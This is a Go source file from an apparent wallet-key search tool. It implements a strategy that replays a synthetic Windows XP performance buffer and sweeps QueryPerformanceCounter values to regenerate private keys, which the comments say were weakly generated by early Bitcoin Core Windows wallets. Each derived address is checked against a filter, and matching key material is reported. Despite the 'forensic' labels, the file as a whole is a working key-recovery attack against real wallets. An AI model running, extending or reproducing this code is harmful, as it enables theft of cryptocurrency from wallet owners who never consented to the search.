package strategy

import (
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"sync/atomic"

	"github.com/nullshard/prospector/pkg/address"
	"github.com/nullshard/prospector/pkg/curve"
	"github.com/nullshard/prospector/pkg/types"
)

const (
	// PerfBufferSize is the synthetic Windows XP performance-data-block
	// size this strategy replays entropy from.
	PerfBufferSize = 250_000

	digestPoolCapacity = 1024
	digestLength        = sha1.Size // 20

	// qpcOffset is where a real PERF buffer's QueryPerformanceCounter value
	// sits in the full template; relativeQPCOffset is that same offset
	// measured from the start of the dynamic segment (the template minus
	// its digestLength-byte static prefix).
	qpcOffset         = 24
	relativeQPCOffset = qpcOffset - digestLength

	perfTelemetryBatch = 10_000
)

// PerformanceBufferReplay deterministically reconstructs a synthetic
// Windows XP performance buffer and mixes a QueryPerformanceCounter value
// into it for every (uptime_s, qpc_tick) pair in the cross product over
// [UptimeSStart, UptimeSEnd) x [0, ClockHz), matching the entropy
// collapse behind the earliest (2009-2010) Bitcoin Core Windows wallets.
//
// Grounded on
// original_source/libs/domain/mining-strategy/src/engines/satoshi_xp_engine.rs
// (SatoshiWindowsXpForensicEngine::execute_forensic_audit /
// mix_dynamic_segment_with_qpc), including the SHA-1 digest mixer (SHA-1 is
// the template's native digest, not a security choice) and the
// QUERY_PERFORMANCE_COUNTER_OFFSET constant.
type PerformanceBufferReplay struct {
	Params   *types.PerformanceBufferParams
	Template []byte // PerfBufferSize bytes
}

// Run implements Engine.
func (p *PerformanceBufferReplay) Run(filter Filter, stop <-chan struct{}, effort *atomic.Uint64, sink FindingSink) (string, error) {
	basePool, baseCursor := precomputeStaticEntropyPrefix(p.Template[:digestLength])
	dynamicSegment := p.Template[digestLength:]

	checkpoint := fmt.Sprintf("uptime_checkpoint_s_%d", p.Params.UptimeSStart)
	var sinceTelemetry uint64

	for uptimeS := p.Params.UptimeSStart; uptimeS < p.Params.UptimeSEnd; uptimeS++ {
		select {
		case <-stop:
			effort.Add(sinceTelemetry)
			return checkpoint, nil
		default:
		}

		for tick := int64(0); tick < p.Params.ClockHz; tick++ {
			if tick%100_000 == 0 {
				select {
				case <-stop:
					effort.Add(sinceTelemetry)
					return checkpoint, nil
				default:
				}
			}

			qpc := uptimeS*p.Params.ClockHz + tick
			material := mixDynamicSegmentWithQPC(basePool, baseCursor, dynamicSegment, qpc)

			scalarPoint, err := curve.BootstrapScalarMul(fmt.Sprintf("%x", material))
			if err == nil {
				if x, y, ok := curve.ToAffine(scalarPoint); ok {
					addr := address.FromXY(x, y, true)
					if filter.Query([]byte(addr)) {
						sink(addr, fmt.Sprintf("%x", material), fmt.Sprintf("forensic_xp_qpc:%d", qpc))
					}
				}
			}

			sinceTelemetry++
			if sinceTelemetry >= perfTelemetryBatch {
				effort.Add(sinceTelemetry)
				sinceTelemetry = 0
			}
		}
		checkpoint = fmt.Sprintf("uptime_checkpoint_s_%d", uptimeS)
	}

	effort.Add(sinceTelemetry)
	return checkpoint, nil
}

// precomputeStaticEntropyPrefix seeds the 1024-byte digest pool with
// prefixData (the scenario-dependent, qpc-independent half of the mix) and
// hashes it once; this part is identical for every tick in the scenario,
// so computing it per-Run rather than per-tick avoids redoing the same
// hash on every candidate.
func precomputeStaticEntropyPrefix(prefixData []byte) (pool [digestPoolCapacity]byte, cursor int) {
	copy(pool[:], prefixData)
	digest := sha1.Sum(pool[:])
	copy(pool[0:digestLength], digest[:])
	return pool, digestLength
}

// mixDynamicSegmentWithQPC runs the fixed digest mixer: qpc is injected
// into the dynamic segment at relativeQPCOffset, then the segment is
// folded into the pool digestLength bytes at a time, rehashing and
// reinserting the digest at a rolling cursor after each chunk. The final
// 32 bytes of pool state (not the last digest alone) are the derived
// scalar material.
func mixDynamicSegmentWithQPC(pool [digestPoolCapacity]byte, cursor int, dynamicData []byte, qpc int64) [32]byte {
	local := make([]byte, len(dynamicData))
	copy(local, dynamicData)

	var qpcBytes [8]byte
	binary.LittleEndian.PutUint64(qpcBytes[:], uint64(qpc))
	copy(local[relativeQPCOffset:relativeQPCOffset+8], qpcBytes[:])

	for start := 0; start < len(local); start += digestLength {
		end := start + digestLength
		if end > len(local) {
			end = len(local)
		}
		chunk := local[start:end]
		for i, b := range chunk {
			pool[(cursor+i)%digestPoolCapacity] ^= b
		}

		digest := sha1.Sum(pool[:])
		for i, b := range digest {
			pool[(cursor+i)%digestPoolCapacity] = b
		}
		cursor = (cursor + digestLength) % digestPoolCapacity
	}

	var out [32]byte
	copy(out[:], pool[0:32])
	return out
}
